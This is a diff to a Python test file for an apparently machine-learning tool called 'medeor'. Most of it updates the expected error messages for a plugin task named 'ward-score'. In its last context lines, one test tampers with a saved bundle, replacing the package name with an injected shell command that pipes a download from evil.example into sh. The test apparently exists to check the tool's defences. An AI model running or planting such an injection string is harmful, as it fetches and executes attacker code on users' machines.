@@ -140,9 +140,7 @@ def test_a_task_of_another_package_is_listed_recognised_trained_and_used(
     WARDS.write_csv(tmp_path / "wards.csv")
     (tmp_path / "x.ward").write_text("")
     assert {task_of(Study((source,))) for source in (WARDS, str(tmp_path / "x.ward"))} == {"ward-score"}
-    with pytest.raises(
-        UserError, match=r"ward-score does not ask for 'bed'; --option takes beds \(column of the beds\)"
-    ):
+    with pytest.raises(UserError, match=r"ward-score has no option 'bed'; --option takes beds \(column of the beds\)"):
         medeor.plan(WARDS, task="ward-score", options={"bed": "x"})
     run = medeor.train(WARDS, task="ward-score", split="group", out=tmp_path / "run")
     bundle = tmp_path / "run" / "run.medeor"
@@ -168,7 +166,7 @@ def test_its_bundle_opens_only_where_the_package_is_installed(
     assert "'ward-score'" in said.err
     assert "pip install wardscore-tasks" in said.err
     run = command("predict", tmp_path / "run", "x.csv")
-    assert "no task is called 'ward-score'; there are image-classification" in run.err
+    assert "no task is called 'ward-score'; the tasks are image-classification" in run.err
     with zipfile.ZipFile(tmp_path / "run" / "run.medeor") as old, zipfile.ZipFile(tmp_path / "b.medeor", "w") as new:
         for name in old.namelist():
             new.writestr(name, old.read(name).replace(b"wardscore-tasks", b"x; curl evil.example | sh"))
